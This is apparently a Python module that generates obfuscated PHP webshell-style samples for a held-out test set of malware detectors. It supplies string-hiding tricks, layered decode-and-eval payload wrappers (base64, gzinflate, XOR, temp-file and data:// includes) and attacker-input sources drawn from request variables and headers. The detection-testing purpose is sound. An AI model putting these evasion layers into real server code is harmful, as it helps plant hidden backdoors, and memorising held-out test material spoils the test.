"""Surface style for the held-out set: names, hidden strings, payload layers,
input sources, comment noise and casing for PHP; shared by every template.

Written blind: from what compromised shared hosts carry, without reading the
detectors (tests/eval/heldout/README.md). Everything takes a random.Random so
the output is a function of the seed only.
"""

import base64
import codecs
import urllib.parse
import zlib

WORDS = ("cache", "data", "item", "node", "conf", "opt", "res", "buf", "tmp", "val", "key", "obj",
         "ctx", "hook", "meta", "row", "list", "map", "seg", "part", "chunk", "load", "init", "core",
         "user", "post", "page", "theme", "widget", "form", "field", "token", "stream", "handler")


# names a generated function or variable must not take (PHP keywords and
# built-in functions a generated function name could collide with)
RESERVED = frozenset("""key list current next reset end each array echo print exit die empty isset unset eval include
require new class function return static global var const int string bool float object mixed void null true false
match fn parent self and or xor as do if else for while switch case default break continue goto try catch finally
throw use namespace trait interface extends implements abstract final public private protected clone instanceof
insteadof yield enum readonly callable iterable pos count min max ord chr link log exp mail file stat time date copy
dir this""".split())


class Style:
    def __init__(self, r):
        self.r = r
        self.used = set()
        self.case = r.choice(("lower", "lower", "lower", "upper", "mixed", "title"))
        self.naming = r.choice(("short", "snake", "camel", "hex", "underscore", "O0"))
        self.comments = r.choice(("none", "none", "line", "block", "hash", "heavy"))
        self.at = r.random() < 0.4

    # ---- identifiers
    def name(self):
        r = self.r
        for _ in range(100):
            n = self.naming
            if n == "short":
                v = r.choice("abcdefghijklmnopqrstuvwxyz") + r.choice(("", "", str(r.randint(0, 99))))
            elif n == "snake":
                v = "_".join(r.sample(WORDS, r.randint(1, 3)))
            elif n == "camel":
                ws = r.sample(WORDS, r.randint(2, 3))
                v = ws[0] + "".join(w.title() for w in ws[1:])
            elif n == "hex":
                v = "_" + "".join(r.choice("0123456789abcdef") for _ in range(r.randint(4, 10)))
            elif n == "underscore":
                v = "_" * r.randint(1, 4) + r.choice(("", "x", "o", "l", "I"))
                v += str(r.randint(0, 9)) if r.random() < 0.5 else ""
            else:  # O0 / Il confusion
                v = r.choice(("O", "I", "l")) + "".join(r.choice("O0Il1") for _ in range(r.randint(4, 9)))
            if (v not in self.used and v[0] not in "0123456789" and v not in ("_", "__")
                    and v.lower() not in RESERVED):
                self.used.add(v)
                return v
        v = "v%d" % len(self.used)
        self.used.add(v)
        return v

    def var(self):
        return "$" + self.name()

    # ---- function-name casing (PHP function names ignore case)
    def fn(self, f):
        c = self.case
        if c == "lower" or "\\" in f:
            return f
        if c == "upper":
            return f.upper()
        if c == "title":
            return f.title()
        return "".join(ch.upper() if self.r.random() < 0.5 else ch for ch in f)

    def s(self, f):
        """A possibly silenced call name."""
        return ("@" if self.at and self.r.random() < 0.7 else "") + self.fn(f)

    # ---- noise
    def comment(self):
        r = self.r
        txt = r.choice(("TODO: remove", "fix for ticket #%d" % r.randint(100, 9999), "compat", "do not edit",
                        "cache layer", "legacy support", "@since 2.%d" % r.randint(0, 9), "sanitize later",
                        "".join(r.choice("abcdefghijklmnop ") for _ in range(r.randint(6, 30))),
                        "Copyright (c) 20%02d" % r.randint(5, 24), "wpml compat", "utf-8 fix"))
        k = self.comments
        if k == "none":
            return ""
        if k == "line":
            return "// " + txt
        if k == "hash":
            return "# " + txt
        if k == "block":
            return "/* " + txt + " */"
        return r.choice(("// ", "# ")) + txt if r.random() < 0.5 else "/* " + txt + " */"

    def lines(self, stmts):
        """Join statements, with comments sprinkled and a random indent."""
        out = []
        ind = self.r.choice(("", "", "  ", "    ", "\t"))
        for s in stmts:
            c = self.comment()
            if c and self.r.random() < 0.35:
                out.append(ind + c)
            out.append(ind + s)
        return "\n".join(out)

    def php_open(self):
        return self.r.choice(("<?php", "<?php", "<?php", "<?PHP", "<?Php"))


# ---------------------------------------------------------------------------
# PHP string literals


def sq(s):
    return "'" + s.replace("\\", "\\\\").replace("'", "\\'") + "'"


def dq_hex(b):
    if isinstance(b, str):
        b = b.encode("latin-1")
    return '"' + "".join("\\x%02x" % c for c in b) + '"'


def dq_oct(b):
    if isinstance(b, str):
        b = b.encode("latin-1")
    return '"' + "".join("\\%o" % c for c in b) + '"'


def dq_mixed(r, s):
    out = []
    for ch in s:
        k = r.random()
        if k < 0.35:
            out.append("\\x%02x" % ord(ch))
        elif k < 0.6:
            out.append("\\%o" % ord(ch))
        elif ch in '"\\$':
            out.append("\\" + ch)
        else:
            out.append(ch)
    return '"' + "".join(out) + '"'


def split_concat(r, s):
    if len(s) < 2:
        return sq(s)
    cuts = sorted(r.sample(range(1, len(s)), min(len(s) - 1, r.randint(1, 3))))
    parts, prev = [], 0
    for c in cuts + [len(s)]:
        parts.append(s[prev:c])
        prev = c
    q = [sq(p) if r.random() < 0.6 else '"' + p.replace("\\", "\\\\").replace('"', '\\"').replace("$", "\\$") + '"'
         for p in parts]
    sep = r.choice((".", " . ", ". ", " ."))
    return sep.join(q)


def hide(r, S, s, depth=0):
    """A PHP expression that evaluates to the string s, by one of many ways
    (sometimes two nested). Returns (prelude statements, expression)."""
    ways = ["plain", "concat", "chr", "hex", "oct", "mixed", "b64", "rot13", "rev", "implode", "junk", "hex2bin",
            "pack", "xor", "sprintf", "urldecode", "lower", "substr", "strtr", "alphabet"]
    if s.isalnum() and s.islower() and len(s) <= 11:
        ways.append("base36")
    w = r.choice(ways)
    if w == "lower" and s != s.lower():
        w = "concat"  # strtolower() only gives back a string without capitals
    pre = []
    nest = depth == 0 and r.random() < 0.25

    def inner(t):
        if nest and w not in ("alphabet", "xor", "base36"):
            p, e = hide(r, S, t, depth + 1)
            pre.extend(p)
            return e
        return sq(t)

    if w == "plain":
        e = sq(s) if r.random() < 0.5 else '"%s"' % s.replace("\\", "\\\\").replace('"', '\\"').replace("$", "\\$")
    elif w == "concat":
        e = split_concat(r, s)
    elif w == "chr":
        parts = []
        for ch in s:
            c = ord(ch)
            k = r.random()
            if k < 0.3:
                parts.append("%s(%d)" % (S.fn("chr"), c))
            elif k < 0.6:
                d = r.randint(1, 60)
                parts.append("%s(%d%s%d)" % (S.fn("chr"), c + d, "-", d))
            elif k < 0.8:
                parts.append("%s(0x%x)" % (S.fn("chr"), c))
            else:
                parts.append("%s(0%o)" % (S.fn("chr"), c))
        e = ".".join(parts)
    elif w == "hex":
        e = dq_hex(s)
    elif w == "oct":
        e = dq_oct(s)
    elif w == "mixed":
        e = dq_mixed(r, s)
    elif w == "b64":
        e = "%s(%s)" % (S.fn("base64_decode"), inner(base64.b64encode(s.encode()).decode()))
    elif w == "rot13":
        e = "%s(%s)" % (S.fn("str_rot13"), inner(codecs.encode(s, "rot13")))
    elif w == "rev":
        e = "%s(%s)" % (S.fn("strrev"), inner(s[::-1]))
    elif w == "implode":
        items = ", ".join(sq(ch) for ch in s)
        arr = "array(%s)" % items if r.random() < 0.5 else "[%s]" % items
        e = "%s('', %s)" % (S.fn(r.choice(("implode", "join"))), arr)
    elif w == "junk":
        j = r.choice([j for j in ("#", "~", "|", "_x_", "@!", "%%", "^^", "Zq") if j not in s] or ["\x01"])
        mixed = j.join(s)
        e = "%s(%s, '', %s)" % (S.fn("str_replace"), sq(j), inner(mixed))
    elif w == "hex2bin":
        e = "%s(%s)" % (S.fn("hex2bin"), inner(s.encode().hex()))
    elif w == "pack":
        e = "%s('H*', %s)" % (S.fn("pack"), sq(s.encode().hex()))
    elif w == "xor":
        key = bytes(r.randint(1, 126) for _ in s)
        enc = bytes(ord(a) ^ b for a, b in zip(s, key))
        e = "(%s ^ %s)" % (dq_hex(enc), dq_hex(key))
    elif w == "sprintf":
        e = "%s(%s, %s)" % (S.fn("sprintf"), sq("%c" * len(s)), ", ".join(str(ord(c)) for c in s))
    elif w == "urldecode":
        e = "%s(%s)" % (S.fn(r.choice(("urldecode", "rawurldecode"))), sq("".join("%%%02X" % ord(c) for c in s)))
    elif w == "lower":
        e = "%s(%s)" % (S.fn("strtolower"), inner(s.upper()))
    elif w == "substr":
        a = "".join(r.choice("qwrtzpdfgh") for _ in range(r.randint(1, 6)))
        b = "".join(r.choice("qwrtzpdfgh") for _ in range(r.randint(0, 6)))
        e = "%s(%s, %d, %d)" % (S.fn("substr"), sq(a + s + b), len(a), len(s))
    elif w == "strtr":
        src = "".join(sorted(set(s)))
        dst = list(src)
        r.shuffle(dst)
        dst = "".join(dst)
        table = str.maketrans(src, dst)
        e = "%s(%s, %s, %s)" % (S.fn("strtr"), sq(s.translate(table)), sq(dst), sq(src))
    elif w == "base36":
        n = int(s, 36)
        e = "%s(%d, 10, 36)" % (S.fn("base_convert"), n)
    else:  # alphabet
        al = sorted(set(s) | set(r.sample("abcdefghijklmnopqrstuvwxyz_0123456789", 12)))
        r.shuffle(al)
        al = "".join(al)
        v = S.var()
        pre.append("%s = %s;" % (v, sq(al)))
        e = ".".join("%s[%d]" % (v, al.index(c)) for c in s)
    return pre, e


# ---------------------------------------------------------------------------
# payload layers: code -> code that runs it


def _rot13(s):
    return codecs.encode(s, "rot13")


def layer(r, S, code):
    """One layer around PHP code (without open tag): returns new PHP code that
    decodes and runs it, in one of several ways."""
    how = r.choice(("b64", "gzinflate", "gzuncompress", "gzdecode", "rot13", "strrev", "hex", "xor", "strtr", "uu",
                    "chunks"))
    dec = S.fn
    raw = code.encode("latin-1", "replace")
    if how == "b64":
        expr = "%s(%s)" % (dec("base64_decode"), sq(base64.b64encode(raw).decode()))
    elif how == "gzinflate":
        c = zlib.compressobj(9, zlib.DEFLATED, -15)
        data = c.compress(raw) + c.flush()
        expr = "%s(%s(%s))" % (dec("gzinflate"), dec("base64_decode"), sq(base64.b64encode(data).decode()))
    elif how == "gzuncompress":
        expr = "%s(%s(%s))" % (dec("gzuncompress"), dec("base64_decode"),
                               sq(base64.b64encode(zlib.compress(raw, 9)).decode()))
    elif how == "gzdecode":
        import gzip
        data = gzip.compress(raw, 9, mtime=0)
        expr = "%s(%s(%s))" % (dec("gzdecode"), dec("base64_decode"), sq(base64.b64encode(data).decode()))
    elif how == "rot13":
        expr = "%s(%s)" % (dec("str_rot13"), sq(_rot13(code)))
    elif how == "strrev":
        expr = "%s(%s(%s))" % (dec("strrev"), dec("base64_decode"), sq(base64.b64encode(raw[::-1]).decode()))
    elif how == "hex":
        expr = "%s(%s)" % (dec("hex2bin"), sq(raw.hex()))
    elif how == "xor":
        key = "".join(r.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(r.randint(3, 9)))
        enc = bytes(b ^ ord(key[i % len(key)]) for i, b in enumerate(raw))
        f, d, k, o, i = S.name(), S.var(), S.var(), S.var(), S.var()
        pre = ("function %s(%s, %s) { %s = ''; for (%s = 0; %s < strlen(%s); %s++) "
               "{ %s .= %s[%s] ^ %s[%s %% strlen(%s)]; } return %s; }"
               % (f, d, k, o, i, i, d, i, o, d, i, k, i, k, o))
        expr = "%s(%s(%s), %s)" % (f, dec("base64_decode"), sq(base64.b64encode(enc).decode()), sq(key))
        return pre + "\n" + runner(r, S, expr)
    elif how == "strtr":
        a = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
        b = list(a)
        r.shuffle(b)
        b = "".join(b)
        enc = base64.b64encode(raw).decode().translate(str.maketrans(a, b))
        expr = "%s(%s(%s, %s, %s))" % (dec("base64_decode"), dec("strtr"), sq(enc), sq(b), sq(a))
    elif how == "uu":
        import binascii
        lines = []
        for i in range(0, len(raw), 45):
            lines.append(binascii.b2a_uu(raw[i:i + 45]).decode())
        uu = "".join(lines) + "`\n"
        expr = "%s(%s)" % (dec("convert_uudecode"), dq_escape(uu))
    else:  # chunks: base64 split over an array, joined
        b = base64.b64encode(raw).decode()
        parts, i = [], 0
        while i < len(b):
            n = r.randint(8, 40)
            parts.append(b[i:i + n])
            i += n
        v = S.var()
        pre = "%s = array(%s);" % (v, ", ".join(sq(p) for p in parts))
        return pre + "\n" + runner(r, S, "%s(%s('', %s))" % (dec("base64_decode"), dec("implode"), v))
    return runner(r, S, expr)


def dq_escape(s):
    out = []
    for ch in s:
        if ch == "\n":
            out.append("\\n")
        elif ch in '"\\$':
            out.append("\\" + ch)
        elif ord(ch) < 32 or ord(ch) > 126:
            out.append("\\x%02x" % ord(ch))
        else:
            out.append(ch)
    return '"' + "".join(out) + '"'


def runner(r, S, expr):
    """Run the decoded code held by expr."""
    k = r.choice(("eval", "eval", "eval", "eval_tag", "fnvar", "tmpinc", "datainc", "closure"))
    if k == "eval":
        return "%s(%s);" % ("@eval" if S.at else "eval", expr)
    if k == "eval_tag":
        return "eval('?>' . '<?php ' . %s);" % expr
    if k == "fnvar":
        v = S.var()
        return "%s = %s;\neval(%s);" % (v, expr, v)
    if k == "tmpinc":
        f = S.var()
        return ("%s = %s(%s(), %s);\n%s(%s, '<?php ' . %s);\ninclude %s;\n@unlink(%s);"
                % (f, S.fn("tempnam"), S.fn("sys_get_temp_dir"), sq(r.choice(("sess_", "php", "tmp", ".c"))),
                   S.fn("file_put_contents"), f, expr, f, f))
    if k == "datainc":
        return "include 'data://text/plain;base64,' . %s('<?php ' . %s);" % (S.fn("base64_encode"), expr)
    v = S.var()
    return "%s = function ($c) { return eval($c); };\n%s(%s);" % (v, v, expr)


def layers(r, S, code, n):
    for _ in range(n):
        code = layer(r, S, code)
    return code


# ---------------------------------------------------------------------------
# where input comes from


def source(r, S, key=None):
    """A PHP expression giving attacker input (a string)."""
    k = key or r.choice(("c", "cmd", "x", "q", "pass", "z0", "act", "p", "e", "code", "a", "_", "img", "id", "t"))
    kq = sq(k) if r.random() < 0.8 else '"%s"' % k
    hdr = r.choice(("X_FORWARDED_HOST", "ACCEPT_LANGUAGE_X", "X_CSRF", "X_REQUEST_ID", "USER_AGENT", "REFERER",
                    "X_API_KEY", "CACHE_TAG", "X_TOKEN", "AUTHORIZATION_X"))
    ways = [
        "$_POST[%s]" % kq, "$_GET[%s]" % kq, "$_REQUEST[%s]" % kq, "$_COOKIE[%s]" % kq,
        "$_SERVER['HTTP_%s']" % hdr,
        "%s(%s)" % (S.fn("file_get_contents"), sq("php://input")),
        "${'_PO'.'ST'}[%s]" % kq, "${\"_G\".\"ET\"}[%s]" % kq,
        "$GLOBALS['_REQUEST'][%s]" % kq, "$GLOBALS[%s][%s]" % (sq("_COOKIE"), kq),
        "%s()[%s]" % (S.fn("getallheaders"), sq(hdr.replace("_", "-").title())),
        "%s($_POST)" % S.fn("end"), "%s($_REQUEST)" % S.fn("current"), "%s($_GET)" % S.fn("reset"),
        "%s(%s)" % (S.fn("getenv"), sq("HTTP_" + hdr)),
        "%s(INPUT_POST, %s)" % (S.fn("filter_input"), kq),
        "%s($_POST[%s])" % (S.fn("base64_decode"), kq), "%s($_COOKIE[%s])" % (S.fn("base64_decode"), kq),
        "%s($_REQUEST[%s])" % (S.fn("str_rot13"), kq), "%s($_GET[%s])" % (S.fn("hex2bin"), kq),
        "%s(%s(%s), true)[%s]" % (S.fn("json_decode"), S.fn("file_get_contents"), sq("php://input"), kq),
        "%s($_SERVER[%s])" % (S.fn("urldecode"), sq("QUERY_STRING")),
    ]
    return r.choice(ways)
